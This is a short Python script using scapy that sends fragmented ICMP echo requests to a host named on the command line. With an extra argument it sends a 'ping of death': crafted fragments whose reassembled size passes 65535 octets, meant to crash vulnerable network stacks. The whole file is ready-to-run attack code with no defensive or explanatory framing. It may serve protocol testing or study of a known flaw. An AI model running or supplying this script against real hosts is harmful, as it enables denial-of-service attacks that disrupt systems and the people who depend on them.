#!/usr/bin/env python3
# Large echo requests in fragments, and one that would be larger than IP can hold.
from scapy.all import *
import sys

target = sys.argv[1]
size = int(sys.argv[2])

packet = IP(dst=target, id=0x4242) / ICMP(id=7, seq=1) / ("X" * size)
parts = fragment(packet, fragsize=1400)
print(len(parts), "fragments, the last at", parts[-1].frag * 8)
for part in parts:
    send(part, verbose=0)

if len(sys.argv) > 3:
    # The ping of death: the last fragment ends behind octet 65535.
    send(IP(dst=target, id=0x4243, flags="MF") / ICMP() / ("Y" * 1000), verbose=0)
    send(IP(dst=target, id=0x4243, frag=8189, proto="icmp") / Raw(b"Z" * 200), verbose=0)
